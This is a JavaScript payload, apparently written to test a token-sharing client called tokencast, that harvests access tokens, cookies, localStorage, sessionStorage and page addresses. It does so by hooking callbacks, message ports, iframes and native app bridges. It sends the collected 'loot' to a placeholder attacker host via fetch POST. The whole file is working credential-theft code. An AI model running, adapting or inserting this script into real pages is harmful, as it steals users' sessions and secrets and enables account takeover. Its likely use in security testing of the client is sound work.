(async () => {
  const loot = [];
  let done = false;
  const hand = (what) => fetch("{master}/loot", { method: "POST", mode: "no-cors", body: JSON.stringify(what), keepalive: true });
  const take = (way) => (what) => {
    const found = way + ": " + (typeof what === "string" ? what : JSON.stringify(what));
    loot.push(found);
    if (done) hand([found]).catch(() => {});
  };
  const tries = async (way, act) => {
    try {
      take(way)(await act());
    } catch (error) {
      take(way)(error.name);
    }
  };

  // Whatever is called, posted or dispatched in this document.
  globalThis.onToken = take("onToken");
  // More documents, so that a number which some other document had is one of theirs.
  for (let more = 0; more < 6; more++) {
    const frame = document.createElement("iframe");
    document.documentElement.append(frame);
    try {
      frame.contentWindow.onToken = take("onToken of a frame");
    } catch {
      // In a sandbox they are strangers to each other.
    }
  }
  addEventListener("message", (event) => take("message")(event.data));
  const client = globalThis.tokencast;
  if (!client) globalThis.tokencast = { receive: take("receive"), connect: undefined };
  addEventListener("tokencast-port", (event) => {
    const port = event.ports[0];
    if (!port) return;
    port.onmessage = ({ data }) => take("port")(data);
    for (const k of ["hello", "need", "watch", "lease"]) {
      port.postMessage(JSON.stringify({ v: 1, k, id: k, min: 1, max: 1, doc: "thief", have: null, used: null, why: "401" }));
    }
  });
  dispatchEvent(new Event("tokencast-open"));

  // Handlers of the app that stand in this world.
  const hello = JSON.stringify({ v: 1, k: "hello", id: "1", min: 1, max: 1, doc: "thief", have: null });
  const naive = globalThis.webkit?.messageHandlers?.naive;
  const askApp = globalThis.askApp ?? (naive && ((text) => naive.postMessage(text)));
  if (askApp) for (const origin of [location.origin, self.origin]) await tries("askApp", () => askApp(origin));
  if (globalThis.tokencastSend) await tries("binding", () => tokencastSend(JSON.stringify({ origin: location.origin, text: hello })));
  const handler = globalThis.webkit?.messageHandlers?.tokencast;
  if (handler) await tries("handler", () => handler.postMessage(JSON.stringify({ origin: location.origin, doc: "thief", text: hello })));

  // The client, as the app's own pages use it.
  await tries("client", async () => {
    const { connect } = client ?? (await import("{master}/tokencast.js"));
    const session = connect({ api: ["{api}"] });
    session.onAccessToken(({ value }) => take("token")(value));
    while (session.state === "connecting" || session.state === "restoring") await new Promise((later) => setTimeout(later, 5));
    return session.state;
  });

  // What lies about.
  await tries("address", () => location.href + " " + document.referrer + " " + window.name + " " + JSON.stringify(history.state));
  await tries("cookie", () => document.cookie);
  await tries("local", () => JSON.stringify(localStorage));
  await tries("tab", () => JSON.stringify(sessionStorage));

  done = true;
  await hand(loot);
})();
